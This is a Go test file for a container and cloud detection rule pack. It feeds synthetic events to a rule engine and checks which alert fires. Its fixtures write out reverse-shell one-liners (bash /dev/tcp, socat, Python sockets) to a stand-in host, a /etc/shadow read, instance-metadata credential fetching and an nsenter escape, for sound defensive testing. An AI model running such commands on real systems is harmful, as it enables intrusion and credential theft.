package rulepack_test

import (
	"bytes"
	"context"
	"testing"
	"time"

	"github.com/cairn-cdr/cairn"
	"github.com/cairn-cdr/cairn/decode"
	"github.com/cairn-cdr/cairn/falco"
)

var t0 = time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)

// execIn builds an exec event of binary with args, under parent, in a
// container of namespace ns ("" for a host process).
func execIn(ns, parent, binary, args string) *cairn.Event {
	ev := &cairn.Event{
		ID: "t", Source: cairn.SourceTetragon, Kind: cairn.KindExec, Type: "execve", Time: t0, Host: "node-1",
		Process: &cairn.Process{ExecID: "e2", ParentExecID: "e1", Binary: binary, Name: base(binary), Args: args},
		Parent:  &cairn.Process{ExecID: "e1", Binary: parent, Name: base(parent)},
	}
	if ns != "" {
		ev.Container = &cairn.Container{ID: "0123456789ab", FullID: "0123456789ab0123456789ab", Image: "registry.example/app:1"}
		ev.K8s = &cairn.K8s{Cluster: "c", Namespace: ns, Pod: "app-1"}
	}
	return ev
}

func base(p string) string {
	for i := len(p) - 1; i >= 0; i-- {
		if p[i] == '/' {
			return p[i+1:]
		}
	}
	return p
}

func connect(ev *cairn.Event, ip string, port int64) *cairn.Event {
	ev.Kind, ev.Type = cairn.KindNetwork, "connect"
	ev.Net = &cairn.Conn{Op: "connect", Protocol: "tcp", SrcIP: "10.0.0.5", SrcPort: 40000, DstIP: ip, DstPort: port}
	return ev
}

func fileOp(ev *cairn.Event, op, path string) *cairn.Event {
	ev.Kind, ev.Type = cairn.KindFile, op
	ev.File = &cairn.File{Path: path, Op: op}
	return ev
}

// trail decodes one CloudTrail record.
func trail(t *testing.T, rec string) *cairn.Event {
	t.Helper()
	var c decode.Collector
	if err := decode.Decode(context.Background(), bytes.NewReader([]byte(rec)), "t", decode.Auto, &c); err != nil || len(c.Events) != 1 {
		t.Fatalf("decode %s: %v (%d events, rejects %+v)", rec, err, len(c.Events), c.Rejects)
	}
	return &c.Events[0]
}

const ctHead = `{"eventVersion":"1.09","eventTime":"2026-11-25T12:00:00Z","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.7","userAgent":"aws-cli/2","eventID":"11111111-2222-3333-4444-555555555555","eventType":"AwsApiCall","recipientAccountId":"111122223333",` +
	`"userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/alice","accountId":"111122223333","principalId":"AIDAEXAMPLE","accessKeyId":"AKIAEXAMPLE","userName":"alice"},`

func ct(source, name, rest string) string {
	return ctHead + `"eventSource":"` + source + `","eventName":"` + name + `"` + rest + `}`
}

func TestRules(t *testing.T) {
	eng := falco.NewEngine(load(t).Rules)
	tests := []struct {
		name string
		ev   func(t *testing.T) *cairn.Event
		want string // rule expected to fire; "" means none
	}{
		{"bash /dev/tcp", func(*testing.T) *cairn.Event {
			return execIn("web", "/bin/sh", "/bin/bash", "-c \"bash -i >& /dev/tcp/198.51.100.1/4242 0>&1\"")
		}, "Reverse Shell"},
		{"socat exec", func(*testing.T) *cairn.Event {
			return execIn("web", "/bin/sh", "/usr/bin/socat", "tcp:198.51.100.1:4242 exec:/bin/sh,pty")
		}, "Reverse Shell"},
		{"python one-liner", func(*testing.T) *cairn.Event {
			return execIn("web", "/bin/sh", "/usr/bin/python3", "-c 'import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.1\",4242));subprocess.call([\"/bin/sh\"])'")
		}, "Reverse Shell"},
		{"nc listing only", func(*testing.T) *cairn.Event { return execIn("web", "/bin/sh", "/usr/bin/nc", "-z 10.0.0.1 80") }, ""},
		{"shadow read by file event", func(*testing.T) *cairn.Event {
			ev := fileOp(execIn("web", "/bin/sh", "/bin/cat", ""), "read", "/etc/shadow")
			return ev
		}, "Read Sensitive File"},
		{"node spawns sh", func(*testing.T) *cairn.Event { return execIn("web", "/usr/local/bin/node", "/bin/sh", "-c ls") }, "Shell Spawned by Service Runtime"},
		{"drift upper layer", func(*testing.T) *cairn.Event {
			ev := execIn("web", "/bin/sh", "/usr/local/bin/helper", "")
			up := true
			ev.Process.UpperLayer = &up
			return ev
		}, "Drift Executable from Upper Layer"},
		{"run from /dev/shm", func(*testing.T) *cairn.Event { return execIn("web", "/bin/sh", "/dev/shm/x", "") }, "Executable Run from Temp Directory"},
		{"xmrig by name", func(*testing.T) *cairn.Event { return execIn("web", "/bin/sh", "/usr/bin/xmrig", "") }, "Crypto Miner Started"},
		{"pool port 14444", func(*testing.T) *cairn.Event {
			return connect(execIn("web", "/bin/sh", "/usr/bin/app", ""), "198.51.100.9", 14444)
		}, "Connection to Mining Pool Port"},
		{"private 5555 is not a pool", func(*testing.T) *cairn.Event {
			return connect(execIn("web", "/bin/sh", "/usr/bin/app", ""), "10.1.2.3", 5555)
		}, ""},
		{"wget metadata", func(*testing.T) *cairn.Event {
			return execIn("web", "/bin/sh", "/usr/bin/wget", "-qO- http://169.254.169.254/latest/meta-data/")
		}, "Instance Metadata Credentials Access from Container"},
		{"metadata from the host is fine", func(*testing.T) *cairn.Event {
			return connect(execIn("", "/usr/bin/containerd", "/usr/bin/aws-node", ""), "169.254.169.254", 80)
		}, ""},
		{"apk in app pod", func(*testing.T) *cairn.Event { return execIn("web", "/bin/sh", "/sbin/apk", "add curl") }, "Package Manager in Container"},
		{"apt-get in CI pod", func(*testing.T) *cairn.Event { return execIn("ci", "/bin/bash", "/usr/bin/apt-get", "update") }, ""},
		{"gcc in app pod", func(*testing.T) *cairn.Event { return execIn("web", "/bin/sh", "/usr/bin/gcc", "x.c") }, "Compiler in Container"},
		{"nsenter host", func(*testing.T) *cairn.Event {
			return execIn("web", "/bin/sh", "/usr/bin/nsenter", "-t 1 -m -u -n -i sh")
		}, "Container Escape via nsenter"},
		{"mount host disk", func(*testing.T) *cairn.Event { return execIn("web", "/bin/sh", "/bin/mount", "/dev/nvme0n1p1 /mnt") }, "Host Path Mounted from Container"},
		{"kubelet tmpfs mount", func(*testing.T) *cairn.Event {
			return execIn("", "/usr/bin/kubelet", "/usr/bin/mount", "-t tmpfs tmpfs /var/lib/kubelet/pods/x/volumes")
		}, ""},
		{"tomcat jsp", func(*testing.T) *cairn.Event {
			return fileOp(execIn("web", "/usr/bin/containerd-shim-runc-v2", "/opt/java/bin/java", "-jar app.jar"), "write", "/usr/local/tomcat/webapps/ROOT/s.jsp")
		}, "Web Shell Written by Application Server"},
		{"DeleteTrail", func(t *testing.T) *cairn.Event {
			return trail(t, ct("cloudtrail.amazonaws.com", "DeleteTrail", `,"requestParameters":{"name":"main"}`))
		}, "CloudTrail Logging Disabled or Changed"},
		{"DeleteTrail denied", func(t *testing.T) *cairn.Event {
			return trail(t, ct("cloudtrail.amazonaws.com", "DeleteTrail", `,"errorCode":"AccessDenied","requestParameters":{"name":"main"}`))
		}, "Logging or Monitoring Change Denied"},
		{"DeleteTrail failed otherwise", func(t *testing.T) *cairn.Event {
			return trail(t, ct("cloudtrail.amazonaws.com", "DeleteTrail", `,"errorCode":"TrailNotFoundException","requestParameters":{"name":"main"}`))
		}, ""},
		{"CreateAccessKey denied", func(t *testing.T) *cairn.Event {
			return trail(t, ct("iam.amazonaws.com", "CreateAccessKey", `,"errorCode":"AccessDenied","requestParameters":{"userName":"bob"}`))
		}, "IAM Persistence Attempt Denied"},
		{"public access block removed", func(t *testing.T) *cairn.Event {
			return trail(t, ct("s3.amazonaws.com", "DeleteBucketPublicAccessBlock", `,"requestParameters":{"bucketName":"b"}`))
		}, "S3 Bucket Policy or Access Changed"},
		{"console login without MFA", func(t *testing.T) *cairn.Event {
			return trail(t, ct("signin.amazonaws.com", "ConsoleLogin", `,"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No"}`))
		}, "Console Login Without MFA"},
		{"console login with MFA", func(t *testing.T) *cairn.Event {
			return trail(t, ct("signin.amazonaws.com", "ConsoleLogin", `,"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"Yes"}`))
		}, ""},
		{"key for another user", func(t *testing.T) *cairn.Event {
			return trail(t, ct("iam.amazonaws.com", "CreateAccessKey", `,"requestParameters":{"userName":"bob"}`))
		}, "Access Key Created for Another User"},
		{"key for oneself", func(t *testing.T) *cairn.Event {
			return trail(t, ct("iam.amazonaws.com", "CreateAccessKey", `,"requestParameters":{"userName":"alice"}`))
		}, ""},
		{"admin policy attached", func(t *testing.T) *cairn.Event {
			return trail(t, ct("iam.amazonaws.com", "AttachUserPolicy", `,"requestParameters":{"userName":"bob","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}`))
		}, "Administrator Policy Attached"},
		{"read-only policy attached", func(t *testing.T) *cairn.Event {
			return trail(t, ct("iam.amazonaws.com", "AttachUserPolicy", `,"requestParameters":{"userName":"bob","policyArn":"arn:aws:iam::aws:policy/ReadOnlyAccess"}`))
		}, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			ev := tc.ev(t)
			var got []string
			for _, m := range eng.Eval(ev) {
				got = append(got, m.Rule.Name)
			}
			if tc.want == "" {
				if len(got) > 0 {
					t.Errorf("fired %v, want none", got)
				}
				return
			}
			for _, g := range got {
				if g == tc.want {
					return
				}
			}
			t.Errorf("fired %v, want %q", got, tc.want)
		})
	}
}
